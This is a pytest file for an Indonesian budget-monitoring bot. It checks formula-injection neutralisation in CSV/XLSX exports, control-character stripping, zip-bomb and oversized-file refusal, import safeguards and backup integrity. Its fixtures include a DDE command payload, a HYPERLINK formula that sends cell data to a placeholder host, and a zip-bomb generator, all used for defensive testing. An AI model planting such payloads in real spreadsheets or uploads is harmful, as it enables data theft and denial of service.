"""Hostile text and damaged files (issue 13): exports never carry formulas or control
characters, whatever is stored."""

from __future__ import annotations

import io
import os
import random
import signal
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import create_engine, text
from sqlalchemy.engine import Engine
from sqlalchemy.exc import OperationalError
from sqlalchemy.pool import NullPool
from sqlmodel import select

from bot.cli.main import main
from bot.offline.http import FakeBotAPI
from storage.data.db import make_engine, read_scope, session_scope
from storage.data.models import Narasi, Realisasi
from storage.files.demo import SEED_FILE
from storage.files.export import export_bytes
from storage.files.importer import ImportRefused, import_file
from storage.files.report_parser import MAX_FILE_BYTES, MAX_LINES, BadFileError, read_lines
from storage.services.queries import YearData, summary
from tests.csv_id import read_rows
from tests.test_importer import _reopen_all, _snapshot

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Klik di sini")'
DDE = "=cmd|' /C calc'!A0"


def _store_hostile_text(engine: Engine) -> None:
    """What a /lapor user could have typed, as it sits in the database."""
    with session_scope(engine) as s:
        nar = s.exec(select(Narasi).where(Narasi.triwulan == 3)).first()
        assert nar is not None
        nar.aksi, nar.hambatan, nar.tindak_lanjut = DDE, "Hambatan \x01\x1b rapat", "\t=1+1"
        s.add(nar)
        reals = s.exec(select(Realisasi).where(Realisasi.triwulan == 3)).all()
        for r, ket in zip(reals, (HYPERLINK, "+1+1", "@SUM(A1:A9)", "-2+3"), strict=False):
            r.ket = ket
            s.add(r)


def test_xlsx_text_cells_are_strings_never_formulas(seeded: Engine) -> None:
    _store_hostile_text(seeded)
    with read_scope(seeded) as s:
        _, data = export_bytes(s, 1, 2022, 3, fmt="xlsx")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert HYPERLINK in texts and DDE in texts and "\t=1+1" in texts
    # The control characters are dropped, the visible text kept.
    assert "Hambatan  rapat" in texts
    # Numbers stay numbers.
    assert any(isinstance(c.value, int) and c.value > 1_000_000 for c in cells)


def test_csv_fields_starting_like_formulas_are_neutralised(seeded: Engine) -> None:
    _store_hostile_text(seeded)
    with read_scope(seeded) as s:
        _, data = export_bytes(s, 1, 2022, 3, fmt="csv")
    rows = read_rows(data)
    kets = {r["Keterangan"] for r in rows}
    assert "'" + HYPERLINK in kets and "'+1+1" in kets and "'@SUM(A1:A9)" in kets
    assert "'-2+3" in kets
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    # Amounts are still plain integers.
    assert all(r["Pagu (Rp)"] == "" or r["Pagu (Rp)"].isdigit() for r in rows)


# --- bounded reading ----------------------------------------------------------------------


def _counting_zip_reads(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Bytes inflated out of any zip member while the test runs."""
    inflated: list[int] = []
    real_read = zipfile.ZipExtFile.read

    def read(self, n=-1):  # type: ignore[no-untyped-def]
        data = real_read(self, n)
        inflated.append(len(data))
        return data

    monkeypatch.setattr(zipfile.ZipExtFile, "read", read)
    return inflated


def _zip_bomb(path: Path, unpacked_mb: int) -> Path:
    """A valid workbook whose sheet XML is padded to ``unpacked_mb`` MB of spaces."""
    buf = io.BytesIO()
    Workbook().save(buf)
    with (
        zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                head, _, tail = data.partition(b"<sheetData")
                data = head + b" " * (unpacked_mb * 1024 * 1024) + b"<sheetData" + tail
            dst.writestr(item, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=1)
    return path


def test_a_zip_bomb_xlsx_is_refused_from_its_directory(
    seeded: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bomb = _zip_bomb(tmp_path / "bom.xlsx", unpacked_mb=227)
    assert bomb.stat().st_size < MAX_FILE_BYTES  # the compressed size passes the old check
    before = _snapshot(seeded)
    inflated = _counting_zip_reads(monkeypatch)
    with pytest.raises(BadFileError, match=r"xl/worksheets/sheet1\.xml mengembang menjadi 227 MB"):
        import_file(seeded, bomb)
    assert sum(inflated) == 0  # refused before a single byte was unpacked
    assert _snapshot(seeded) == before


def test_a_sheet_claiming_a_million_rows_stops_at_the_row_limit(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    for r in range(1, MAX_LINES + 50):
        ws.cell(row=r, column=1, value="x")
    path = tmp_path / "panjang.xlsx"
    wb.save(path)
    with pytest.raises(BadFileError, match=r"lebih dari 10\.000 baris"):
        read_lines(path)


def test_junk_text_is_refused_before_it_is_parsed(
    seeded: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import storage.files.importer as importer

    def not_reached(*_a, **_k):  # type: ignore[no-untyped-def]
        raise AssertionError("junk reached the parser")

    monkeypatch.setattr(importer, "parse_lines", not_reached)
    before = _snapshot(seeded)
    rng = random.Random(13)
    many_lines = tmp_path / "baris.txt"
    many_lines.write_bytes(
        b"".join(rng.randbytes(60).hex().encode() + b"\n" for _ in range(160_000))
    )
    assert many_lines.stat().st_size > 19_000_000
    with pytest.raises(BadFileError, match=r"lebih dari 10\.000 baris"):
        import_file(seeded, many_lines)
    one_line = tmp_path / "satu.txt"
    one_line.write_bytes(rng.randbytes(9 * 1024 * 1024).hex().encode())
    with pytest.raises(BadFileError, match="baris 1 terlalu panjang"):
        import_file(seeded, one_line)
    tabs = tmp_path / "tab.txt"
    tabs.write_text("judul\n" + "\t" * 500 + "\n", encoding="utf-8")
    with pytest.raises(BadFileError, match="baris 2 berisi 501 kolom"):
        import_file(seeded, tabs)
    assert _snapshot(seeded) == before


# --- imports never shrink or change an approved quarter ------------------------------------


def _tw3_figures(engine: Engine) -> tuple[int, int]:
    with read_scope(engine) as s:
        rows = s.exec(select(Realisasi).where(Realisasi.triwulan == 3)).all()
        with_figure = [r for r in rows if r.anggaran is not None or r.fisik is not None]
        return len(with_figure), summary(s, 1, 2022, 3).total.realisasi or 0


def _truncated(tmp_path: Path) -> Path:
    lines = SEED_FILE.read_text(encoding="utf-8").splitlines(keepends=True)
    path = tmp_path / "t.txt"
    path.write_text("".join(lines[:150]), encoding="utf-8")
    return path


def test_a_truncated_file_never_replaces_an_approved_quarter(
    seeded: Engine, tmp_path: Path
) -> None:
    before = _snapshot(seeded)
    rows, rupiah = _tw3_figures(seeded)
    assert rows == 52 and rupiah == 4_346_239_038
    with pytest.raises(ImportRefused) as refused:
        import_file(seeded, _truncated(tmp_path))
    text = str(refused.value)
    assert "TW III 2022 sudah disetujui untuk bidang" in text and "/bukakembali" in text
    assert "kurang lengkap" in text and "--ganti" in text
    assert "Perdagangan (disetujui): 14 → 0 baris berangka, Rp 433.022.122 → belum lengkap" in text
    # Not even --ganti touches an approved quarter.
    with pytest.raises(ImportRefused, match="sudah disetujui"):
        import_file(seeded, _truncated(tmp_path), replace=True)
    assert _snapshot(seeded) == before


def test_dry_run_shows_the_diff_and_writes_nothing(seeded: Engine, tmp_path: Path) -> None:
    _reopen_all(seeded, 2022, 3)
    before = _snapshot(seeded)
    result = import_file(seeded, _truncated(tmp_path), dry_run=True)
    text = "\n".join(result.lines())
    assert "Uji coba impor (tidak ada yang disimpan)" in text
    assert "Perubahan TW III 2022 per bidang:" in text
    assert "Perindustrian: 8 → 0 baris berangka, Rp 671.003.145 → belum lengkap" in text
    assert "Impor sungguhan akan DITOLAK" in text and "kurang lengkap" in text
    assert _snapshot(seeded) == before
    # Reopened but still less complete: refused without --ganti ...
    with pytest.raises(ImportRefused, match="kurang lengkap"):
        import_file(seeded, _truncated(tmp_path))
    assert _snapshot(seeded) == before
    # ... and replaced with it, as the operator asked after seeing the diff.
    done = import_file(seeded, _truncated(tmp_path), replace=True)
    assert done.reports[1].status == "diganti"
    assert _tw3_figures(seeded)[0] == 21


def test_a_complete_corrected_copy_replaces_a_reopened_quarter(
    seeded: Engine, tmp_path: Path
) -> None:
    text = SEED_FILE.read_text(encoding="utf-8")
    fixed = tmp_path / "koreksi.txt"
    fixed.write_text(text.replace("3,064,862,971.00", "3,064,862,000.00"), encoding="utf-8")
    with pytest.raises(ImportRefused, match="Sekretariat"):
        import_file(seeded, fixed)
    _reopen_all(seeded, 2022, 3)
    result = import_file(seeded, fixed)
    assert [r.status for r in result.reports] == ["tidak berubah", "diganti", "tidak berubah"]
    assert [c.bidang for c in result.reports[1].changes if c.figures_changed] == ["Sekretariat"]
    assert _tw3_figures(seeded)[0] == 52


def test_cli_import_of_a_file_cut_mid_line(
    workdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cut = workdir / "potong.txt"
    cut.write_bytes(SEED_FILE.read_bytes()[:23934])  # ends inside a sasaran's T/R row
    assert main(["import", str(cut)]) == 0
    out = capsys.readouterr()
    assert "Traceback" not in out.err and "IntegrityError" not in out.err
    assert "sudah ada di baris sebelumnya; baris ini dilewati (berkas terpotong?)" in out.out


def test_cli_coba_and_ganti(workdir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["summary", "--tahun", "2022", "--tw", "3"]) == 0  # fills the demo data
    capsys.readouterr()
    assert main(["summary", "--tahun", "2022", "--tw", "3"]) == 0
    before = capsys.readouterr().out
    t = _truncated(workdir)
    assert main(["import", str(t)]) == 1
    err = capsys.readouterr().err
    assert "sudah disetujui" in err and "Basis data tidak berubah." in err
    assert main(["import", "--coba", str(t)]) == 1
    out = capsys.readouterr().out
    assert "Perubahan TW III 2022 per bidang:" in out and "(--coba)" in out
    assert main(["summary", "--tahun", "2022", "--tw", "3"]) == 0
    assert capsys.readouterr().out == before


# --- restore checks before it touches anything --------------------------------------------


def _damage(path: Path, size: int = 20 * 1024) -> None:
    data = bytearray(path.read_bytes())
    mid = len(data) // 2
    data[mid : mid + size] = random.Random(3).randbytes(size)
    path.write_bytes(bytes(data))


def test_a_damaged_backup_is_refused_and_the_live_database_kept(
    workdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["summary", "--tahun", "2022", "--tw", "3"]) == 0
    capsys.readouterr()
    assert main(["backup", "-o", "cadangan"]) == 0
    backup_file = (
        next(Path("cadangan").iterdir()) if Path("cadangan").is_dir() else Path("cadangan")
    )
    capsys.readouterr()
    assert main(["summary", "--tahun", "2022", "--tw", "3"]) == 0
    before = capsys.readouterr().out
    _damage(backup_file)
    assert main(["restore", "--force", str(backup_file)]) == 1
    err = capsys.readouterr().err
    assert "Pemulihan dibatalkan" in err and "dipulihkan" not in err
    assert main(["summary", "--tahun", "2022", "--tw", "3"]) == 0
    assert capsys.readouterr().out == before


def test_restore_keeps_the_live_database_as_a_dated_copy(
    workdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["summary"]) == 0
    assert main(["backup", "-o", "baik.bak"]) == 0
    capsys.readouterr()
    assert main(["restore", "--force", "baik.bak"]) == 0
    out = capsys.readouterr().out
    assert "dipulihkan" in out and "Isi sebelumnya disimpan di" in out
    kept = list((workdir / "data" / "backup").glob("sebelum-pulih-*"))
    assert len(kept) == 1 and kept[0].stat().st_size > 0


def test_backup_refuses_a_damaged_sqlite_database(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    for var in ("DATABASE_URL", "TELEGRAM_BOT_TOKEN", "MONEV_DATA_DIR"):
        monkeypatch.delenv(var, raising=False)
    assert main(["summary"]) == 0
    live = tmp_path / "data" / "monev.db"
    conn = sqlite3.connect(live)  # fold the WAL in, so the damage hits the only copy
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    _damage(live)
    capsys.readouterr()
    assert main(["backup", "-o", "rusak.bak"]) == 1
    err = capsys.readouterr().err
    assert "Basis data rusak" in err and "Cadangan tidak dibuat" in err
    assert not (tmp_path / "rusak.bak").exists()
    # Other commands on the damaged file: a sentence pointing at restore, no traceback. Which
    # pages 20 KB of damage hits depends on the file's layout, so damage the whole second
    # half: the figures a summary reads cannot all be intact then.
    _damage(live, size=live.stat().st_size // 2)
    assert main(["summary", "--tahun", "2022"]) == 1
    err = capsys.readouterr().err
    assert "monev restore BERKAS --force" in err and "Traceback" not in err


# --- clean stops and pipes ----------------------------------------------------------------


def _children(pid: int) -> list[str]:
    """Command lines of the direct children of ``pid`` (Linux /proc)."""
    out = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
            if int(fields[1]) == pid:
                out.append((stat.parent / "cmdline").read_bytes().replace(b"\0", b" ").decode())
        except (OSError, IndexError, ValueError):
            continue
    return out


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM], ids=["ctrl-c", "sigterm"])
async def test_monev_run_stops_quietly(workdir: Path, sig: signal.Signals) -> None:
    from tests.test_run_process import KEPALA, _start, _until

    assert main(["summary"]) == 0
    assert main(["user", "add", "--telegram-id", str(KEPALA), "--role", "kepala"]) == 0
    async with FakeBotAPI() as fake:
        proc = await _start(workdir, fake, new_session=True)
        try:
            await _until(lambda: any(c.method == "getUpdates" for c in fake.api.calls))
            # The chart worker starts with the first chart: ask for one, so both are running.
            update_id = fake.push_text(KEPALA, "grafik serapan per bidang TW 3 2022")
            await fake.wait_reply(update_id, timeout=120)
            await _until(lambda: any("charts.worker" in c for c in _children(proc.pid)))
            # Ctrl+C in a terminal signals the whole process group: bot and chart worker.
            os.killpg(proc.pid, sig)
            # Waited for without blocking the loop: the fake Bot API answers the goodbye calls.
            await _until(lambda: proc.poll() is not None)
        finally:
            if proc.poll() is None:
                proc.kill()
        err = proc.stderr.read().decode() if proc.stderr else ""
    assert "Traceback" not in err and "KeyboardInterrupt" not in err, err


def test_cli_output_into_a_closed_pipe_exits_quietly(workdir: Path) -> None:
    assert main(["summary"]) == 0
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "bot.cli", "findings", "--tahun", "2022"],
        cwd=workdir,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert proc.stdout is not None and proc.stderr is not None
    proc.stdout.readline()  # what `head -1` reads, then it leaves
    proc.stdout.close()
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=60) in (0, 141)
    assert "Traceback" not in err and "BrokenPipeError" not in err, err


# --- recovery without restart -------------------------------------------------------------


def _count_t(engine: Engine) -> int:
    with read_scope(engine) as s:
        return int(s.exec(text("SELECT count(*) FROM t")).one()[0])


def test_sqlite_writes_work_again_once_the_file_is_writable(tmp_path: Path) -> None:
    path = tmp_path / "monev.db"
    eng = make_engine(f"sqlite:///{path}")
    with session_scope(eng) as s:
        s.exec(text("CREATE TABLE t (x int)"))
    eng.dispose()
    # Read-only even for root (the test suite may run as root, which chmod does not stop).
    if subprocess.run(["chattr", "+i", str(path)], capture_output=True).returncode != 0:
        pytest.skip("chattr +i is not available here")
    try:
        eng = make_engine(f"sqlite:///{path}")
        with pytest.raises(OperationalError, match="readonly"), session_scope(eng) as s:
            s.exec(text("INSERT INTO t VALUES (1)"))
    finally:
        subprocess.run(["chattr", "-i", str(path)], check=True)
    # The same engine, no restart: the pool opens a fresh, writable connection.
    with session_scope(eng) as s:
        s.exec(text("INSERT INTO t VALUES (2)"))
    assert _count_t(eng) == 1
    eng.dispose()


@pytest.mark.parametrize("backend", ["postgresql"])  # a server that drops connections
def test_postgresql_sessions_work_again_after_the_server_dropped_them(engine: Engine) -> None:
    with session_scope(engine) as s:
        s.exec(text("CREATE TABLE t (x int)"))
        s.exec(text("INSERT INTO t VALUES (1)"))
    # Every pooled connection of this engine is cut off, as by a server restart.
    with engine.connect() as conn:
        pids = [r[0] for r in conn.execute(text("SELECT pg_backend_pid()"))]
    admin = create_engine(engine.url, poolclass=NullPool)
    with admin.connect() as conn:
        for pid in pids:
            conn.execute(text("SELECT pg_terminate_backend(:p)"), {"p": pid})
    admin.dispose()
    with session_scope(engine) as s:
        s.exec(text("INSERT INTO t VALUES (2)"))
    assert _count_t(engine) == 2


@pytest.mark.parametrize("backend", ["postgresql"])  # a server that drops connections
def test_the_product_engine_renews_connections_the_server_dropped(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``db.make_engine`` pings a connection only after it sat idle (PING_AFTER_IDLE_S): one
    that did, after a restart cut it off, is replaced before anyone uses it."""
    from storage.data import db

    product = db.make_engine(engine.url.render_as_string(hide_password=False))
    try:
        with product.connect() as a, product.connect() as b:  # two pooled connections
            pids = [c.execute(text("SELECT pg_backend_pid()")).scalar() for c in (a, b)]
        admin = create_engine(engine.url, poolclass=NullPool)
        with admin.connect() as conn:
            for pid in pids:
                conn.execute(text("SELECT pg_terminate_backend(:p)"), {"p": pid})
        admin.dispose()
        monkeypatch.setattr(db, "PING_AFTER_IDLE_S", 0.0)  # as if both had idled a while
        for _ in range(3):
            with db.read_scope(product) as s:
                assert s.exec(text("SELECT 1")).one()[0] == 1
            with db.session_scope(product) as s:
                assert s.exec(text("SELECT 2")).one()[0] == 2
    finally:
        product.dispose()


# --- text hygiene at the door -------------------------------------------------------------

HOSTILE_NARASI = {
    "aksi": DDE + "\x00",
    "hambatan": "Hambatan \x01\x1b rapat",
    "tindak lanjut": "\t=1+1",
}


async def test_control_characters_typed_in_lapor_never_block_the_report(seeded: Engine) -> None:
    from tests.test_lapor import (
        KOP_TW4,
        OP1,
        _button,
        _close,
        _fill_figures,
        _open,
        _start_tw4,
        _users,
    )

    _users(seeded)
    bot = await _open(seeded)
    try:
        await _start_tw4(bot)
        anggaran, fisik = KOP_TW4[0]
        await bot.say(OP1, anggaran)
        await bot.say(OP1, fisik)
        out = await bot.say(OP1, HYPERLINK + "\x00\x07")  # keterangan
        assert "Karakter kendali dihapus dari Keterangan" in out, out
        await _fill_figures(bot, rows=KOP_TW4[1:])
        told: dict[str, str] = {}
        for _ in range(20):
            if any(label.startswith("📨 Kirim") for label, _ in bot.buttons(OP1)):
                break
            if any(label == "Ya, benar" for label, _ in bot.buttons(OP1)):
                # An indicator below last quarter's asks first (issue 12): keep it.
                await bot.press(OP1, _button(bot, OP1, "Ya, benar"))
                continue
            prompt = bot.api.last(OP1).text or ""
            typed = next((t for k, t in HOSTILE_NARASI.items() if f"<b>{k}</b>" in prompt), None)
            # 100%: an indicator figure that never drops below last quarter (no confirmation)
            out = await bot.say(OP1, typed if typed is not None else "100")
            assert "Maaf" not in out, out
            if typed is not None:
                told[typed] = out
        else:
            raise AssertionError("never reached the review: " + (bot.api.last(OP1).text or ""))
        # The person is told which field lost invisible characters; the rest is kept.
        assert "Karakter kendali dihapus dari Hambatan" in told[HOSTILE_NARASI["hambatan"]]
        assert "Karakter kendali dihapus dari Aksi" in told[HOSTILE_NARASI["aksi"]]
        assert "Karakter kendali" not in told[HOSTILE_NARASI["tindak lanjut"]]  # a tab is not
        # Only invisible characters: refused, saying what to type instead.
        sent = await bot.press(OP1, _button(bot, OP1, "📨 Kirim"))
        assert "Maaf" not in sent and "gangguan" not in sent, sent
        with read_scope(seeded) as s:
            nar = s.exec(select(Narasi).where(Narasi.triwulan == 4)).all()
            kets = [r.ket for r in s.exec(select(Realisasi).where(Realisasi.triwulan == 4))]
        assert {n.hambatan for n in nar} == {"Hambatan rapat"}
        assert {n.aksi for n in nar} == {DDE}
        assert {n.tindak_lanjut for n in nar} == {"=1+1"}
        assert HYPERLINK in kets
        # The quarter's XLSX comes out, with the text as text.
        out = await bot.say(OP1, "/laporan 4 2022")
        assert "Maaf" not in out, out
        doc = bot.api.calls[-1]
        assert doc.method == "sendDocument", doc.method
    finally:
        await _close(bot)


def test_typed_text_that_is_only_control_characters_is_refused() -> None:
    from bot.views.lapor import invalid
    from storage.services.submission import Blank, clean_text

    refused = clean_text("\x00\x01\x1b").error
    assert refused == Blank(hidden=True)
    assert invalid(refused).startswith("Teks itu hanya berisi karakter kendali")
    assert clean_text("a\x00b \x1b c").value == "ab c"


def test_control_characters_in_an_imported_file_never_reach_the_database() -> None:
    from storage.files.report_parser import parse_lines, read_bytes

    text = SEED_FILE.read_text(encoding="utf-8")
    assert "Kurangnya SDM bidang Koperasi" in text
    dirty = text.replace("Kurangnya SDM bidang Koperasi", "Kurangnya\x01 SDM\x1b bidang Koperasi")
    reports = parse_lines(read_bytes(dirty.encode("utf-8"), name="kotor.txt"))
    hambatan = {n.hambatan for r in reports for s in r.sasaran for n in s.narasi}
    assert "Kurangnya SDM bidang Koperasi" in hambatan
    assert not any("\x01" in h or "\x1b" in h for h in hambatan)


# --- round trip ---------------------------------------------------------------------------


def _in_force(engine: Engine, tw: int) -> list[tuple]:
    """Every node's plan in force at ``tw`` and its figure there: what the quarter shows."""
    with read_scope(engine) as s:
        data = YearData(s, 1, 2022)
        out = []
        for node_id in sorted(data.nodes):
            plan = data.plan(node_id, tw)
            fig = data.node_figure(node_id, tw)
            out.append(
                (
                    node_id,
                    None if plan is None else (plan.pagu, plan.target),
                    fig.pagu,
                    fig.realisasi,
                    fig.fisik,
                )
            )
        return out


@pytest.mark.parametrize("tw", [1, 3])
def test_export_then_import_of_the_same_quarter_changes_nothing(
    seeded: Engine, tmp_path: Path, tw: int
) -> None:
    """Even on an approved quarter: the same figures are no change to refuse."""
    with read_scope(seeded) as s:
        name, data = export_bytes(s, 1, 2022, tw, fmt="xlsx")
    path = tmp_path / name
    path.write_bytes(data)
    real, _plans, nodes, _audit = _snapshot(seeded)
    shown = {q: _in_force(seeded, q) for q in (1, 2, 3)}
    result = import_file(seeded, path)
    assert [r.status for r in result.reports] == ["diganti"]
    assert not [c for c in result.reports[0].changes if c.figures_changed or c.shrinks]
    after_real, _, after_nodes, _ = _snapshot(seeded)
    assert (after_real, after_nodes) == (real, nodes)
    # Plan rows the report restates may be stored again, but every quarter shows the same.
    assert {q: _in_force(seeded, q) for q in (1, 2, 3)} == shown
